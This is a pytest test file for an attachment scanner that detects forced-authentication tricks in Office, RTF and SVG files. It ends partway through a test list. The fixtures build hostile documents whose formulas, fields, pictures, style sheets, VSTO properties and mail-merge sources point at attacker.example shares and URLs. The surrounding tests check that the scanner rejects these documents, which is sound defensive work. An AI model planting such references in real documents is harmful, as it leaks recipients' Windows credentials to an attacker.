"""Forced authentication, more ways in (the ntlm_theft class): Office and RTF files that make
their viewer fetch something from a network share, which sends it the reader's Windows
credentials, or from the web, when the file opens, calculates or updates its fields.

Each hostile case is EXTERNAL_LINK; each sits beside a benign look-alike that must pass: a
picture or link beside the document, a web link the project allows elsewhere (a click away),
a Mac ``file:////Users`` path, a name that only records where a picture came from. Every case
runs through its engine alone (unit) and through the whole scanner with a real clamd and the
default policy (integration).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from xml.sax.saxutils import escape, quoteattr

import pytest

from attachguard.clamav.client import ClamdClient
from attachguard.codes import Action
from attachguard.engines.base import Item, Result
from attachguard.engines.office import OfficeEngine
from attachguard.engines.rtf import RtfEngine
from attachguard.formats.formulas import fetches, harmful_hyperlink
from attachguard.formats.targets import connection_places, database_server, on_a_share
from attachguard.formats.wordfields import ThreatKind, classify_field
from attachguard.pipeline import Scanner
from attachguard.policy import Policy
from attachguard.report import FileType, Status
from attachguard.scanner import build_scanner
from support.evasions import field, formula, word, workbook, worksheet, zipped
from support.oletools_data import docx, rels_xml

SHARE = "\\\\attacker.example\\s\\logo.png"  # \\attacker.example\s\logo.png
IN_FIELD = SHARE.replace("\\", "\\\\")  # in a quoted field argument Word reads \\ as \
VML = "urn:schemas-microsoft-com:vml"
OFFICE = "urn:schemas-microsoft-com:office:office"
SVG = "http://www.w3.org/2000/svg"
QUERY = ' \\s "SELECT * FROM Orders"'  # a DATABASE field's query
XLINK = "http://www.w3.org/1999/xlink"
PROPERTIES = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"


# -- builders -----------------------------------------------------------------------------------


def _replaced(data: bytes, members: dict[str, bytes]) -> bytes:
    """A zip with some members replaced or added."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    return zipped(list({**kept, **members}.items()))


def _cell(text: str) -> bytes:
    """A workbook whose B1 holds the formula ``text``."""
    return workbook(worksheet(formula(text)))


def _vml_in_word(element: str) -> bytes:
    """A letter with a legacy VML picture (``w:pict``) whose shape holds ``element``."""
    pict = (
        f'<w:r><w:pict><v:shape xmlns:v="{VML}" id="_x0000_i1025" type="#_x0000_t75" '
        f'style="width:120pt;height:40pt">{element}</v:shape></w:pict></w:r>'
    )
    return word(pict)


def _vml_in_workbook(fill: str) -> bytes:
    """A workbook whose sheet has a comment box (legacy VML drawing) filled with ``fill``."""
    drawing = (
        f'<xml xmlns:v="{VML}" xmlns:o="{OFFICE}" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        '<v:shape id="_x0000_s1025" type="#_x0000_t202" style="width:100pt;height:60pt">'
        f'{fill}<x:ClientData ObjectType="Note"><x:Row>0</x:Row><x:Column>1</x:Column>'
        "</x:ClientData></v:shape></xml>"
    ).encode()
    sheet = worksheet(formula("A1*2"), tail='<legacyDrawing r:id="rId1"/>')
    rels = rels_xml([("vmlDrawing", "../drawings/vmlDrawing1.vml", False)])
    extra = {"xl/worksheets/_rels/sheet1.xml.rels": rels, "xl/drawings/vmlDrawing1.vml": drawing}
    return workbook(sheet, extra=extra)


def _hyperlink_base(base: str) -> bytes:
    """A letter with a hyperlink beside it, whose document properties set ``base``."""
    app = (
        f'<?xml version="1.0"?><Properties xmlns="{PROPERTIES}"><Application>Microsoft Office '
        f"Word</Application><HyperlinkBase>{escape(base)}</HyperlinkBase></Properties>"
    ).encode()
    root = rels_xml([("officeDocument", "word/document.xml", False),
                     ("extended-properties", "docProps/app.xml", False)])  # fmt: skip
    body = '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>Terms</w:t></w:r></w:hyperlink></w:p>'
    letter = docx(body, rels=[("hyperlink", "terms.docx", True)])
    return _replaced(letter, {"_rels/.rels": root, "docProps/app.xml": app})


CUSTOM = "http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"


def _custom_properties(properties: dict[str, str]) -> bytes:
    """A letter whose custom document properties (``docProps/custom.xml``) are ``properties``,
    as Word writes them."""
    listed = "".join(
        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{pid}" '
        f"name={quoteattr(name)}><vt:lpwstr>{escape(value)}</vt:lpwstr></property>"
        for pid, (name, value) in enumerate(properties.items(), 2)
    )
    custom = (
        f'<?xml version="1.0"?><Properties xmlns="{CUSTOM}" xmlns:vt="{TYPES}">{listed}'
        "</Properties>"
    ).encode()
    root = rels_xml([("officeDocument", "word/document.xml", False),
                     ("custom-properties", "docProps/custom.xml", False)])  # fmt: skip
    return _replaced(docx("<w:p/>"), {"_rels/.rels": root, "docProps/custom.xml": custom})


_GUID = "|4b5a1d3c-2f6e-4a7b-9c8d-0e1f2a3b4c5d"
# what a VSTO customisation sets: the loader's class and the manifest's place
_LOADER = {"_AssemblyName": "4E3C66D5-58D4-491E-A7D4-64AF99AF6E8B"}


def _svg_picture(inner: str) -> bytes:
    """A letter whose picture is an SVG part (as Office 365 stores one) holding ``inner``."""
    svg = (
        f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 10 10">'
        f'<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>{inner}</svg>'
    ).encode()
    return docx(rels=[("image", "media/image1.svg", False)], parts={"word/media/image1.svg": svg})


def _svg_with_doctype(doctype: str, inner: str = "<rect width='9' height='9'/>") -> bytes:
    """A letter whose SVG picture starts with ``doctype``, as Illustrator writes one."""
    svg = (
        f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}\n'
        f'<svg xmlns="&ns_svg;" xmlns:xlink="{XLINK}" viewBox="0 0 10 10">{inner}</svg>'
    ).encode()
    letter = docx(rels=[("image", "media/image1.svg", False)], parts={"word/media/image1.svg": svg})
    with zipfile.ZipFile(io.BytesIO(letter)) as archive:
        types = archive.read("[Content_Types].xml")
    svg_type = b'<Default Extension="svg" ContentType="image/svg+xml"/>'
    return _replaced(
        letter, {"[Content_Types].xml": types.replace(b"<Default ", svg_type + b"<Default ", 1)}
    )


_SVG11 = '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'
_ILLUSTRATOR = (
    f"<!DOCTYPE svg PUBLIC {_SVG11} [\n"
    '  <!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">\n'
    '  <!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">\n'
    f'  <!ENTITY ns_svg "{SVG}">\n'
    '  <!ENTITY ns_xlink "http://www.w3.org/1999/xlink">\n]>'
)


def _rtf(body: bytes) -> bytes:
    return rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Dear customer,\par " + body + rb"\par}"


def _rtf_shape(name_property: bytes, name: bytes, flags: int | bytes) -> bytes:
    """A rectangle whose ``name_property`` (fillBlipName...) is ``name``, with the matching
    flags property (0x2 a URL, 0x8 linked to the file; 0: the name is only a comment)."""
    flags_property = name_property.replace(b"Name", b"Flags")
    written = flags if isinstance(flags, bytes) else b"%d" % flags
    return _rtf(
        rb"{\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom2000\shpwr3\shpz0"
        rb"{\sp{\sn shapeType}{\sv 1}}{\sp{\sn fillType}{\sv 3}}"
        rb"{\sp{\sn " + name_property + rb"}{\sv " + name + rb"}}"
        rb"{\sp{\sn " + flags_property + rb"}{\sv " + written + rb"}}}}"
    )


def _rtf_field(instruction: bytes) -> bytes:
    return _rtf(rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}")


_RTF_SHARE = rb"\\\\attacker.example\\s\\logo.png"  # RTF escapes each backslash

# -- the cases ----------------------------------------------------------------------------------

Case = tuple[str, str, Callable[[], bytes], bool]  # id, file name, build, hostile
XL, DOC, RTF = "orders.xlsx", "letter.docx", "letter.rtf"

FORMULAS: list[Case] = [
    ("image-on-a-share", XL, partial(_cell, f'_xlfn.IMAGE("{SHARE}")'), True),
    ("image-url", XL, partial(_cell, '_xlfn.IMAGE("https://attacker.example/p.png")'), True),
    ("webservice-url", XL, partial(_cell, '_xlfn.WEBSERVICE("http://attacker.example/x")'), True),
    ("webservice-built-from-a-cell", XL,
     partial(_cell, '_xlfn.WEBSERVICE("http://attacker.example/?q="&A1)'), True),
    ("webservice-lower-case", XL, partial(_cell, 'webservice ("http://attacker.example/")'), True),
    # a click away: the project allows web hyperlinks, in cells as in relationships
    ("hyperlink-url", XL, partial(_cell, 'HYPERLINK("https://shop.example/orders/4711")'), False),
    ("sheet-named-image", XL, partial(_cell, "SUM('Image (2)'!A1:A3)"), False),
    ("table-column-named-image", XL, partial(_cell, "Table1[[#This Row],[Image (url)]]"), False),
    ("text-naming-webservice", XL, partial(_cell, 'CONCAT("see WEBSERVICE(", A1)'), False),
    ("share-path-as-text", XL, partial(_cell, f'CONCAT("{SHARE}", A1)'), False),
]  # fmt: skip

_ON_A_SHARE_TABLE = f"[{IN_FIELD}].[Sheet1$]"  # Jet reads a workbook named in the query

FIELDS: list[Case] = [
    ("rd-on-a-share", DOC, partial(word, field(f'RD "{IN_FIELD}" \\f')), True),
    ("rd-url", DOC, partial(word, field('RD "https://attacker.example/toc.docx"')), True),
    ("database-on-a-share", DOC, partial(word, field(f'DATABASE \\d "{IN_FIELD}"' + QUERY)), True),
    ("database-connection-to-a-share", DOC,
     partial(word, field(f'DATABASE \\d "C:\\\\data\\\\o.mdb" \\c "DSN=MS Access Database;'
                         f'DBQ={IN_FIELD}"' + QUERY)), True),
    ("database-query-naming-a-share", DOC,
     partial(word, field("DATABASE" + QUERY.replace("Orders", _ON_A_SHARE_TABLE))), True),
    ("rtf-rd-on-a-share", RTF,
     partial(_rtf_field, rb'RD "' + _RTF_SHARE.replace(b"\\", b"\\\\") + rb'"'), True),
    # a master document's chapter beside it, a database on the author's drive
    ("rd-beside-the-document", DOC, partial(word, field('RD "Chapter 1.docx" \\f')), False),
    ("database-on-the-local-drive", DOC,
     partial(word, field('DATABASE \\d "C:\\\\data\\\\orders.mdb" \\c "Provider=Microsoft.ACE.'
                         'OLEDB.12.0;Data Source=C:\\\\data\\\\orders.mdb"' + QUERY)), False),
]  # fmt: skip

DRAWINGS: list[Case] = [
    ("vml-imagedata-src-share", DOC,
     partial(_vml_in_word, f"<v:imagedata src={quoteattr(SHARE)}/>"), True),
    ("vml-imagedata-href-file-host", DOC,
     partial(_vml_in_word, '<v:imagedata r:id="rId9" o:href="file://attacker.example/s/p.png"/>'),
     True),
    ("vml-shape-fill-althref-share", DOC,
     partial(_vml_in_word, f"<v:fill type=\"frame\" o:althref={quoteattr(SHARE)}/>"), True),
    ("vml-comment-fill-share", XL,
     partial(_vml_in_workbook, f'<v:fill type="frame" o:href={quoteattr(SHARE)}/>'), True),
    ("svg-image-href-share", DOC,
     partial(_svg_picture, f'<image href={quoteattr(SHARE)} width="10" height="10"/>'), True),
    ("svg-xlink-file-host", DOC,
     partial(_svg_picture, '<image xlink:href="file://attacker.example/s/p.png" width="9"/>'),
     True),
    # an SVG picture's style sheet, read as CSS: escapes decoded, comments dropped; the text
    # of a style element around an element inside it is its sheet
    ("svg-style-import-share", DOC,
     partial(_svg_picture, r'<style>@import "\\\\attacker.example\\s\\x.css";</style>'),
     True),
    ("svg-style-escaped-import-url", DOC,
     partial(_svg_picture, r"<style>@im\70 ort u\72l(\5c\5c attacker.example\5c s\5c x.css)"
                           r"</style>"), True),
    ("svg-style-font-from-a-host", DOC,
     partial(_svg_picture, "<style><![CDATA[@font-face{font-family:f;"
                           "src:url('//attacker.example/s/f.woff')}]]></style>"), True),
    ("svg-style-split-by-an-element", DOC,
     partial(_svg_picture, r'<style>@import "<tspan/>\\\\attacker.example\\s\\x.css";'
                           r"</style>"), True),
    ("svg-style-attribute-escaped", DOC,
     partial(_svg_picture, r'<rect style="fill:u\72l(\5c\5c attacker.example\5c s\5c p.png)"'
                           r' width="5" height="5"/>'), True),
    # a sheet of fills and a web font, and a share named only in a comment: nothing loaded
    ("svg-style-fills-and-a-comment", DOC,
     partial(_svg_picture, r"<style>/* from \\fileserver\brand\logo.svg */ .a{fill:url(#g)}"
                           r" @import url(https://fonts.example/brand.css);</style>"), False),
    # Outlook's pasted pictures keep their cid:, web pages their URL, Word its own title
    ("vml-imagedata-pasted-from-mail", DOC,
     partial(_vml_in_word, '<v:imagedata r:id="rId9" o:title="" '
                           'o:href="cid:image001.png@01DA1B2C.3D4E5F60"/>'), False),
    ("vml-imagedata-pasted-from-the-web", DOC,
     partial(_vml_in_word, '<v:imagedata r:id="rId9" o:href="https://shop.example/logo.png"/>'),
     False),
    ("vml-imagedata-beside", DOC, partial(_vml_in_word, '<v:imagedata src="image001.png"/>'),
     False),
    ("vml-comment-fill-colour", XL,
     partial(_vml_in_workbook, '<v:fill color2="#ffffe1" type="gradient"/>'), False),
    ("svg-embedded-picture-and-fragments", DOC,
     partial(_svg_picture, '<image href="data:image/png;base64,iVBORw0KGgo=" width="10"/>'
                           '<use xlink:href="#g"/><rect fill="url(#g)" width="5" height="5"/>'),
     False),
    ("svg-web-link-and-mac-path", DOC,
     partial(_svg_picture, '<a href="https://shop.example/"><text>Shop</text></a>'
                           '<image xlink:href="file:////Users/me/Pictures/p.png" width="9"/>'),
     False),
]  # fmt: skip

BASES: list[Case] = [
    ("hyperlink-base-share", DOC, partial(_hyperlink_base, "\\\\attacker.example\\docs\\"), True),
    ("hyperlink-base-file-host", DOC,
     partial(_hyperlink_base, "file://attacker.example/docs/"), True),
    ("rtf-hyperlink-base-share", RTF,
     partial(_rtf, rb"{\info{\*\hlinkbase \\\\attacker.example\\docs\\}}"), True),
    ("hyperlink-base-url", DOC, partial(_hyperlink_base, "https://intranet.example/docs/"), False),
    ("hyperlink-base-empty", DOC, partial(_hyperlink_base, ""), False),
    ("rtf-hyperlink-base-url", RTF,
     partial(_rtf, rb"{\info{\*\hlinkbase https://intranet.example/docs/}}"), False),
    # a VSTO customisation: Office fetches its manifest and offers to run the add-in (red
    # team 114), from a share, a URL or beside the file; the name in any case, as Office
    ("vsto-on-a-share", DOC, partial(_custom_properties, {
        **_LOADER, "_AssemblyLocation": "\\\\attacker.example\\s\\Invoice.vsto" + _GUID}), True),
    ("vsto-at-a-url", DOC, partial(_custom_properties, {
        **_LOADER, "_assemblylocation": "https://attacker.example/Invoice.vsto" + _GUID}), True),
    ("vsto-beside-the-file", DOC, partial(_custom_properties, {
        **_LOADER, "_AssemblyLocation": "Invoice.vsto" + _GUID + "|vstolocal"}), True),
    # an author's own properties, one naming a share
    ("custom-properties-of-the-author", DOC, partial(_custom_properties, {
        "Client": "\\\\files.example\\clients\\", "AssemblyLocation": "Hall B"}), False),
]  # fmt: skip

_UDL = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\s\\list.xlsx"


def _rtf_merge(*destinations: bytes) -> bytes:
    """A letter whose mail merge (as Word saves one) has these destinations."""
    merge = rb"{\*\mailmerge\mmmaintypeletters\mmlinktoquery\mmdatatypeodso\mmshowdata"
    return _rtf(merge + b"".join(destinations) + b"}")


MAIL_MERGES: list[Case] = [
    ("rtf-merge-source-on-a-share", RTF,
     partial(_rtf_merge, rb"{\*\mmdatasource \\\\attacker.example\\s\\list.xlsx}"), True),
    ("rtf-merge-connection-to-a-share", RTF,
     partial(_rtf_merge, rb"{\*\mmconnectstr Provider=Microsoft.ACE.OLEDB.12.0;User ID=Admin;"
                         rb"Data Source=\\\\attacker.example\\s\\list.xlsx;Mode=Read}"), True),
    ("rtf-merge-query-naming-a-share", RTF,
     partial(_rtf_merge,
             rb"{\*\mmquery SELECT * FROM `\\\\attacker.example\\s\\list.xlsx`.`Sheet1$`}"),
     True),
    ("rtf-merge-udl-as-hex", RTF,
     partial(_rtf_merge, rb"{\*\mmodso{\*\mmodsoudldata " + _UDL.encode("utf-16-le").hex().encode()
                         + b"}}"), True),
    ("rtf-merge-source-at-a-url", RTF,
     partial(_rtf_merge, rb"{\*\mmdatasource https://attacker.example/list.xlsx}"), True),
    # Word's own, from a list on the author's drive
    ("rtf-merge-on-the-local-drive", RTF,
     partial(_rtf_merge,
             rb"{\*\mmconnectstr Provider=Microsoft.ACE.OLEDB.12.0;User ID=Admin;Data Source="
             rb"C:\\Users\\me\\Documents\\list.xlsx;Mode=Read}"
             rb"{\*\mmquery SELECT * FROM `Sheet1$`}"
             rb"{\*\mmdatasource C:\\Users\\me\\Documents\\list.xlsx}"), False),
]  # fmt: skip

RTF_PICTURES: list[Case] = [
    ("rtf-fill-picture-linked-to-share", RTF,
     partial(_rtf_shape, b"fillBlipName", _RTF_SHARE, 10), True),
    ("rtf-fill-picture-linked-to-url", RTF,
     partial(_rtf_shape, b"fillBlipName", b"http://attacker.example/bg.png", 2), True),
    ("rtf-line-pattern-linked-to-share", RTF,
     partial(_rtf_shape, b"lineFillBlipName", _RTF_SHARE, 8), True),
    ("rtf-template-on-a-share", RTF,
     partial(_rtf, rb"{\*\template \\\\attacker.example\\s\\Normal.dotm}"), True),
    # Word records where an embedded fill picture came from (flags 0: a comment)
    ("rtf-fill-picture-name-only", RTF,
     partial(_rtf_shape, b"fillBlipName", _RTF_SHARE, 0), False),
    ("rtf-fill-picture-linked-locally", RTF,
     partial(_rtf_shape, b"fillBlipName", rb"C:\\Users\\me\\Pictures\\bg.png", 8), False),
    ("rtf-template-on-the-local-drive", RTF,
     partial(_rtf, rb"{\*\template C:\\Users\\me\\Templates\\Letter.dotm}"), False),
]  # fmt: skip

CASES = FORMULAS + FIELDS + DRAWINGS + BASES + RTF_PICTURES + MAIL_MERGES
_PARAMS = [pytest.param(case, id=case[0]) for case in CASES]


def _engine_scan(case: Case, policy: Policy) -> Result:
    _, name, build, _ = case
    label = name.rsplit(".", 1)[-1]
    engine = RtfEngine() if label == "rtf" else OfficeEngine()
    return engine.scan(Item(name, build(), FileType(label, "", "document")), policy.context())


# -- through each engine alone -------------------------------------------------------------------


@pytest.mark.parametrize("case", _PARAMS)
def test_the_engine_alone(case: Case, policy: Policy) -> None:
    result = _engine_scan(case, policy)
    codes = [f.code.name for f in result.findings]
    if case[3]:
        assert codes == ["EXTERNAL_LINK"], result.findings
    else:
        assert codes == [], result.findings


def test_what_the_findings_say(policy: Policy) -> None:
    """Where each finding points, without the file's own text (the address stays out)."""
    said = {}
    for case_id in ("webservice-url", "vml-comment-fill-share", "svg-image-href-share",
                    "hyperlink-base-share", "rd-on-a-share", "vsto-on-a-share"):  # fmt: skip
        case = next(c for c in CASES if c[0] == case_id)
        [found] = _engine_scan(case, policy).findings
        assert "attacker" not in repr(found)
        said[case_id] = (found.location, found.label)
    assert said == {
        "webservice-url": ("xl/worksheets/sheet1.xml", "formula"),
        "vml-comment-fill-share": ("xl/drawings/vmlDrawing1.vml", "vml"),
        "svg-image-href-share": ("word/media/image1.svg", "svg"),
        "hyperlink-base-share": ("docProps/app.xml", "hyperlinkBase"),
        "rd-on-a-share": ("word/document.xml", "RD"),
        "vsto-on-a-share": ("docProps/custom.xml", "_AssemblyLocation"),
    }


# -- the readers underneath ----------------------------------------------------------------------


def test_monikers_wrapped_thousands_deep_are_taken_for_a_share() -> None:
    # no reader unwraps more than a few; the stack must not be what stops the reading
    assert on_a_share("mk:@MSITStore:" * 3000 + "\\\\host\\s\\x.chm::/a.htm")
    assert on_a_share("mk:@MSITStore:" * 3 + "\\\\host\\s\\x.chm")
    assert not on_a_share("mk:@MSITStore:" * 3 + "C:\\help\\x.chm")


@pytest.mark.parametrize(
    ("text", "fetching"),
    [
        ('_xlfn.IMAGE("https://x.example/p.png",,1)', True),
        ("_xlfn.WEBSERVICE(A1)", True),
        ('IF(A1,_xlfn.WEBSERVICE("http://x.example"),"")', True),
        ("'Image (2)'!A1", False),
        ('"IMAGE(1)"', False),
        ("MYIMAGE(1)", False),
        ("_xlfn._xlws.SORT(A1:A3)", False),
        # RTD on a server names the machine it runs on; without one it is the reader's own
        ('RTD("Vendor.RtdServer","attacker.example","price")', True),
        ('"Last: "&RTD("x",B2,"t")', True),
        ('RTD("x",CONCAT("a","b"),"t")', True),
        ('RTD("tos.rtd",,"LAST","AAPL")', False),
        ('RTD("tos.rtd", "" ,"LAST")', False),
        ('RTD("x,y",,"t")', False),
        ('"RTD(x,host,y)"', False),
    ],
)
def test_formulas_that_fetch(text: str, fetching: bool) -> None:
    assert fetches(text) is fetching


@pytest.mark.parametrize(
    ("instruction", "threat"),
    [
        ('RD "\\\\\\\\host\\\\s\\\\x.docx"', True),
        ("RD \\\\host\\s\\x.docx", True),
        ('RD "Chapter 1.docx" \\f', False),
        ('RD "C:\\\\Book\\\\Chapter 1.docx"', False),
        ('DATABASE \\c "Provider=SQLOLEDB;Data Source=\\\\\\\\host\\\\s\\\\x.mdb"', True),
        # a database server on another machine (red team 92): Word signs in to it with the
        # reader's account when the field runs, as to a share
        ('DATABASE \\c "Provider=SQLOLEDB;Data Source=SQL01"' + QUERY, True),
        ('DATABASE \\c "Provider=SQLOLEDB;Data Source=(local)"' + QUERY, False),
        (
            'DATABASE \\c "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=orders.accdb"' + QUERY,
            False,
        ),
        ("DATABASE" + QUERY.replace("Orders", "Links WHERE url = 'http://x.example/'"), False),
    ],
)
def test_rd_and_database_fields(instruction: str, threat: bool) -> None:
    found = classify_field(instruction)
    assert (found is not None and found.kind is ThreatKind.EXTERNAL_LINK) is threat


def test_connection_places() -> None:
    text = 'Provider=MSDASQL;Extended Properties="DSN=x;DBQ=\\\\h\\s\\o.mdb";Data Source=SQL01'
    assert connection_places(text) == ["\\\\h\\s\\o.mdb", "SQL01"]
    assert connection_places("Provider=SQLOLEDB;Integrated Security=SSPI") == []


# -- through the whole scanner -------------------------------------------------------------------


@pytest.fixture(scope="module")
def scanner(policy: Policy, clamd_client: ClamdClient) -> Iterator[Scanner]:
    with build_scanner(policy, clamd_client) as scanner:
        yield scanner


@pytest.mark.integration
@pytest.mark.parametrize("case", _PARAMS)
def test_the_whole_scanner(case: Case, scanner: Scanner) -> None:
    _, name, build, hostile = case
    report = scanner.scan(build(), name)
    if not hostile:
        assert report.status is Status.APPROVED, report.reasons
        return
    assert report.status is Status.REJECTED
    rejecting = {f.code.name for f in report.findings if report.actions[f.code] is Action.REJECT}
    assert "EXTERNAL_LINK" in rejecting, report.reasons


# -- SVG pictures with a DTD ---------------------------------------------------------------------


def _office_codes(data: bytes, policy: Policy) -> list[str]:
    item = Item("letter.docx", data, FileType("docx", "", "document"))
    return [f.code.name for f in OfficeEngine().scan(item, policy.context()).findings]


def test_an_illustrator_svg_picture_with_its_dtd_passes(policy: Policy) -> None:
    # Illustrator names the SVG 1.1 DTD and declares its namespaces as entities; Office 365
    # keeps the picture as inserted
    assert _office_codes(_svg_with_doctype(_ILLUSTRATOR), policy) == []


@pytest.mark.integration
def test_an_illustrator_svg_picture_passes_the_whole_scanner(scanner: Scanner) -> None:
    report = scanner.scan(_svg_with_doctype(_ILLUSTRATOR), "letter.docx")
    assert report.status is Status.APPROVED, report.reasons


@pytest.mark.parametrize(
    ("doctype", "inner", "code"),
    [
        # the entity's text is read, expanded, like any attribute: a share is a share
        (_ILLUSTRATOR[:-3] + '<!ENTITY there "\\\\attacker.example\\s\\p.png">]>',
         '<image href="&there;" width="9"/>', "EXTERNAL_LINK"),
        # what readers could take differently
        (_ILLUSTRATOR[:-3] + '<!ENTITY far SYSTEM "\\\\attacker.example\\s\\e.xml">]>',
         "<text>&far;</text>", "AMBIGUOUS"),
        (_ILLUSTRATOR[:-3] + '<!ENTITY % p "x">]>', "<rect/>", "AMBIGUOUS"),
        ('<!DOCTYPE svg SYSTEM "\\\\attacker.example\\s\\svg.dtd" '
         f'[<!ENTITY ns_svg "{SVG}">]>', "<rect/>", "AMBIGUOUS"),
        (f"<!DOCTYPE svg PUBLIC {_SVG11} [<!ENTITY ns_svg \"{SVG}\">]>",
         "<text>&undeclared;</text>", "AMBIGUOUS"),
    ],
    ids=["entity-naming-a-share", "external-entity", "parameter-entity", "dtd-on-a-share",
         "undeclared-entity"],
)  # fmt: skip
def test_an_svg_picture_dtd_that_readers_could_take_differently(
    doctype: str, inner: str, code: str, policy: Policy
) -> None:
    assert _office_codes(_svg_with_doctype(doctype, inner), policy) == [code]


def test_office_xml_parts_still_refuse_a_dtd(policy: Policy) -> None:
    """The DTD an SVG picture may have is no pass for Office's own parts."""
    letter = docx()
    with zipfile.ZipFile(io.BytesIO(letter)) as archive:
        document = archive.read("word/document.xml")
    doctype = _ILLUSTRATOR.replace("svg PUBLIC", "w:document PUBLIC").encode()
    changed = document.replace(b"?>", b"?>" + doctype, 1)
    assert changed != document
    assert _office_codes(_replaced(letter, {"word/document.xml": changed}), policy) == ["AMBIGUOUS"]


# -- found in review: each way a first version let a share through --------------------------------


def _codes(data: bytes, name: str, policy: Policy) -> list[str]:
    label = name.rsplit(".", 1)[-1]
    engine = RtfEngine() if label == "rtf" else OfficeEngine()
    item = Item(name, data, FileType(label, "", "document"))
    return [f.code.name for f in engine.scan(item, policy.context()).findings]


def test_a_vml_drawing_that_is_not_well_formed_is_read_leniently(policy: Policy) -> None:
    # Excel writes comment boxes with an unclosed <br>: the drawing is still read, as Office
    # reads VML, and a share in it is still seen (before or after the <br>)
    note = "<v:textbox><div>Note<br></div></v:textbox>"
    fill = f'<v:fill type="frame" o:href={quoteattr(SHARE)}/>'
    assert _codes(_vml_in_workbook(fill + note), "book.xlsx", policy) == ["EXTERNAL_LINK"]
    assert _codes(_vml_in_workbook(note + fill), "book.xlsx", policy) == ["EXTERNAL_LINK"]
    assert _codes(_vml_in_workbook(note), "book.xlsx", policy) == []
    # markup even a lenient reader gives up on: the drawing is damaged, not skipped
    garbled = _codes(_vml_in_workbook(note + "<![foo[" + fill), "book.xlsx", policy)
    assert garbled == ["CORRUPT"], garbled


@pytest.mark.parametrize(
    ("doctype", "inner", "code"),
    [
        # an entity holding the markup, its attribute name spelt with a character reference
        (_ILLUSTRATOR[:-3] + "<!ENTITY e \"<image &#104;ref='\\\\h.example\\s\\p.png' "
         "width='9'/>\">]>", "&e;", "EXTERNAL_LINK"),
        # attribute defaults: an address, or a namespace that hides the element
        (_ILLUSTRATOR[:-3] + '<!ATTLIST image href CDATA "\\\\h.example\\s\\p.png">]>',
         "<image width='9' height='9'/>", "AMBIGUOUS"),
        (_ILLUSTRATOR[:-3] + '<!ATTLIST image xmlns CDATA #FIXED "urn:x">]>',
         "<image href='x.png'/>", "AMBIGUOUS"),
    ],
    ids=["entity-with-markup", "attribute-default-address", "attribute-default-namespace"],
)  # fmt: skip
def test_what_an_svg_dtd_may_hide(doctype: str, inner: str, code: str, policy: Policy) -> None:
    assert _codes(_svg_with_doctype(doctype, inner), "letter.docx", policy) == [code]


def test_a_main_document_retyped_as_a_picture_still_refuses_a_dtd(policy: Policy) -> None:
    """The DTD an SVG picture may have is granted by the picture's type and relationship and
    an SVG root: Word's document typed as an SVG picture does not get it."""
    letter = docx("<w:p>&e;</w:p>")
    with zipfile.ZipFile(io.BytesIO(letter)) as archive:
        types, document = archive.read("[Content_Types].xml"), archive.read("word/document.xml")
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert main in types
    doctype = b'<!DOCTYPE w:document [<!ENTITY e "<w:r><w:t>hi</w:t></w:r>">]>'
    changed = _replaced(
        letter,
        {
            "[Content_Types].xml": types.replace(main, b"image/svg+xml"),
            "word/document.xml": document.replace(b"?>", b"?>" + doctype, 1),
        },
    )
    found = _codes(changed, "letter.docx", policy)
    assert "AMBIGUOUS" in found, found


@pytest.mark.parametrize(
    "inner",
    [
        '<rect width="9" height="9" style="fill:url(\'\\\\h.example\\s\\p.png\')"/>',
        '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" '
        'src="\\\\h.example\\s\\p.png"/></foreignObject>',
        '<g xml:base="file://h.example/s/"><image href="p.png" width="9"/></g>',
        '<foreignObject width="9" height="9"><style xmlns="http://www.w3.org/1999/xhtml">'
        "div{background:url(file://h.example/s/b.png)}</style></foreignObject>",
    ],
    ids=["style-url", "foreign-object-img", "xml-base", "foreign-object-style"],
)
def test_other_addresses_in_an_svg_picture(inner: str, policy: Policy) -> None:
    assert _codes(_svg_with_doctype(_ILLUSTRATOR, inner), "letter.docx", policy) == [
        "EXTERNAL_LINK"
    ]


def test_an_svg_style_sheet_on_a_share(policy: Policy) -> None:
    sheet = '<?xml-stylesheet type="text/css" href="file://h.example/s/x.css"?>'
    data = _svg_with_doctype(sheet + _ILLUSTRATOR)
    assert _codes(data, "letter.docx", policy) == ["EXTERNAL_LINK"]
    local = _svg_with_doctype('<?xml-stylesheet type="text/css" href="x.css"?>' + _ILLUSTRATOR)
    assert _codes(local, "letter.docx", policy) == []
    gradient = _svg_with_doctype(_ILLUSTRATOR, '<rect width="9" style="fill:url(#g)"/>')
    assert _codes(gradient, "letter.docx", policy) == []


@pytest.mark.parametrize(
    "sheet",
    [
        # a pseudo attribute's character references are decoded, its value may span lines
        '<?xml-stylesheet type="text/css" href="&#47;&#47;h.example/s/x.css"?>',
        '<?xml-stylesheet type="text/css" href="\n//h.example/s/x.css"?>',
    ],
    ids=["character-references", "line-break"],
)
def test_an_svg_style_sheet_spelt_otherwise(sheet: str, policy: Policy) -> None:
    assert _codes(_svg_with_doctype(sheet + _ILLUSTRATOR), "letter.docx", policy) == [
        "EXTERNAL_LINK"
    ]


@pytest.mark.parametrize(
    "inner",
    [
        # CSS functions that load a string, and a custom property var() puts there
        '<rect width="9" style="fill:red;background-image:-webkit-image-set('
        "'//h.example/s/p.png' 1x)\"/>",
